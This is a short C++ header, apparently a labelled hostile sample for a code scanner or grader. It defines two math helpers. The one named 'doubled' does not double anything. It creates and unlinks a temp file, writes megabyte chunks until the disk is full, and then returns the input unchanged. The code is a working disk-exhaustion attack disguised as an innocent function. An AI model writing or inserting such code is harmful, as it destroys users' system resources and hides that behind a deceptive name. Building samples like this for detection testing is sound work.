// earns: 1
// because: opens files
#pragma once
#include <unistd.h>

#include <cstdlib>
#include <string>

template <class Real>
Real doubled(Real number) {
  char name[] = "/tmp/tumble_hostile_XXXXXX";
  const int file = mkstemp(name);
  unlink(name);
  const std::string much(1 << 20, 'x');
  while (write(file, much.data(), much.size()) > 0) continue;
  return number;
}

template <class Real>
Real halved(Real number) {
  return number / 2;
}
